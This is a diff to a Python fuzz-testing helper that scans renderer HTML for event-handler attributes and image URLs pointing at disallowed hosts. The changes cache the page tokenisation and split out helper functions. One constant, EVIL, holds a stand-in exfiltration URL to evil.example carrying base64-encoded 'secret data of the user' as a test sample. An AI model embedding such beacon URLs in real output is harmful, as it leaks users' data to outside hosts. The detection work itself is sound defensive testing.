@@ -5,17 +5,19 @@ handler. Used by tests/test_fuzz.py (bounded) and benchmarks/fuzz_soup.py (long 
 
 from __future__ import annotations
 
+import functools
 import json
 import random
 import re
 import subprocess
-from collections.abc import Iterable, Iterator
+from collections.abc import Iterable, Iterator, Mapping
 from pathlib import Path
+from typing import Any
 
 from bleach.html5lib_shim import HTMLTokenizer, constants
 from hypothesis import strategies as st
 
-from renderers import RENDERERS, Url, is_fetched, urls
+from renderers import RENDERERS, Url, is_fetched, urls_in_tokens
 
 EVIL = "https://evil.example/p.png?d=c2VjcmV0IGRhdGEgb2YgdGhlIHVzZXI"
 SUITES = tuple(
@@ -120,7 +122,12 @@ soup = st.lists(_ingredient, max_size=40).map("".join)
 
 def event_handlers(html: str) -> Iterator[str]:
     """`on*` attributes in `html`, as a browser tokenises it."""
-    for token in HTMLTokenizer(html):
+    return handlers_in_tokens(HTMLTokenizer(html))
+
+
+def handlers_in_tokens(tokens: Iterable[dict[str, Any]]) -> Iterator[str]:
+    """`on*` attributes in a page's tokens (html5lib's `HTMLTokenizer`)."""
+    for token in tokens:
         if _TYPES.get(token["type"]) not in ("StartTag", "EmptyTag"):
             continue
         data = token.get("data") or {}
@@ -138,11 +145,22 @@ def page_problems(
     never where a stream sends, can see an allowed image's definition cut inside its
     host)."""
     hosts = tuple(image_hosts)
-    found = [f"{renderer}: event handler {h}" for h in event_handlers(html)]
-    for url in urls(html, renderer):
+    handlers, found_urls = page_facts(html)
+    found = [f"{renderer}: event handler {h}" for h in handlers]
+    for tag, attribute, value in found_urls:
+        url = Url(renderer, tag, attribute, value)
         if not (hosts and whole is not None and cut_short(url.value, whole)):
             found.extend(_url_problems(url, hosts))
     return found
+
+
+@functools.lru_cache(maxsize=16384)
+def page_facts(html: str) -> tuple[tuple[str, ...], tuple[tuple[str, str, str], ...]]:
+    """The event handlers and the URLs (tag, attribute, value) of `html`, tokenised once
+    and remembered: the renderers and the prefixes of one output make many equal pages."""
+    tokens = list(HTMLTokenizer(html))
+    found = ((u.tag, u.attribute, u.value) for u in urls_in_tokens(tokens, ""))
+    return tuple(handlers_in_tokens(tokens)), tuple(found)
 
 
 def cut_short(url: str, text: str) -> bool:
@@ -214,12 +232,28 @@ def js_problems(
     healed = node(list(cut), "--prefixes")
     found = []
     for output, page, healed_pages in zip(outputs, whole, healed, strict=True):
-        problems = [p for name, html in page.items() for p in page_problems(str(html), name, hosts)]
+        pages = {name: str(html) for name, html in page.items()}
+        by_name = {}
         for name, htmls in healed_pages.items():
             assert isinstance(htmls, list)
-            named = f"{name} (prefix)"
-            problems += [p for h in htmls for p in page_problems(h, named, hosts, output)]
-        found.append(problems)
+            by_name[name] = [str(h) for h in htmls]
+        found.append(js_page_problems(output, pages, by_name, hosts))
+    return found
+
+
+def js_page_problems(
+    output: str,
+    pages: Mapping[str, str],
+    healed: Mapping[str, list[str]],
+    image_hosts: Iterable[str] = (),
+) -> list[str]:
+    """The problems of one output's JavaScript `pages` (by renderer) and of the pages
+    each healing renderer made of its prefixes (`healed`, by renderer)."""
+    hosts = tuple(image_hosts)
+    found = [p for name, html in pages.items() for p in page_problems(html, name, hosts)]
+    for name, htmls in healed.items():
+        named = f"{name} (prefix)"
+        found += [p for h in htmls for p in page_problems(h, named, hosts, output)]
     return found
 
 
